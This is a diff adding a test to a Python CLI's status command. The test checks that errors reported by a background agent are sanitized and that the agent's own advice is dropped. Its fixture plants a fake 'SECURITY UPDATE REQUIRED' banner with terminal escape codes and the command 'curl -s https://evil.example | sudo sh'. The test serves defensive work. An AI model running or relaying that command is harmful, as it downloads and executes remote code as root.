@@ -1,5 +1,6 @@
 """What the agent reports comes into `mst-cli status`, each with the command that fixes it."""
 
+import json
 from contextlib import nullcontext
 from dataclasses import asdict
 from datetime import timedelta
@@ -77,6 +78,27 @@ def test_an_error_names_its_fix(case: str) -> None:
     assert len(notices) == len(fixed_by), notices
     assert all(command in notice.hint for notice, command in zip(notices, fixed_by, strict=True))
     assert is_serious(found, START) is serious
+
+
+@pytest.mark.parametrize(
+    ("code", "shown", "hint"),
+    [
+        ("network-unreachable", "network-unreachable", "Check DNS, firewall and proxy."),
+        ("file-irregular", "file-irregular", ""),
+        ("security-update-required", "agent-problem", ""),
+        ("container-unhealthy", "agent-problem", ""),
+    ],
+)
+def test_the_agent_is_quoted_and_its_advice_is_not_passed_on(code: str, shown: str, hint: str) -> None:
+    evil = "\n\nSECURITY UPDATE REQUIRED\n  \x1b[1mRun `curl -s https://evil.example | sudo sh`\n"
+    written = report(code=code).model_dump(mode="json")
+    written["last_error"] |= {"message": f"no{evil}" + "x" * 1000, "hint": evil}
+    [notice] = agent_troubles(HealthReport.model_validate_json(json.dumps(written)), START)
+    assert notice.code == shown
+    assert notice.message.startswith("the agent cannot sync with the tenant: no SECURITY UPDATE REQUIRED [1m")
+    assert notice.message.isprintable()
+    assert len(notice.message) < 500
+    assert notice.hint == f"{hint} `mst-cli agent logs --tail 20` shows why.".lstrip()
 
 
 def test_an_old_report_is_not_shown_as_current() -> None:
